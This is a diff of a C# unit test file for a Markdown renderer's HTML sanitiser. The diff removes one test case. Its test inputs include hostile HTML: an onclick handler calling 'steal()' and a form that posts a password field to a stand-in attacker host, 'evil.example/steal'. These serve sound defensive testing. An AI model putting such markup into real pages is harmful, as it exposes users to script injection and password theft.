@@ -69,7 +69,6 @@ public sealed class MarkdownRendererTests
     [InlineData("<div onclick=\"steal()\">x</div>", "attribute 'onclick'")]
     [InlineData("<p style=\"color:red\">x</p>", "attribute 'style'")]
     [InlineData("<iframe src=\"https://example.org\"></iframe>", "<iframe>")]
-    [InlineData("<form action=\"https://evil.example/steal\"><input name=\"password\"></form>", "<form>")]
     public void Raw_html_the_sanitiser_changes_is_a_warning_on_its_line(string html, string removed)
     {
         // Arrange: the HTML is on line 3.
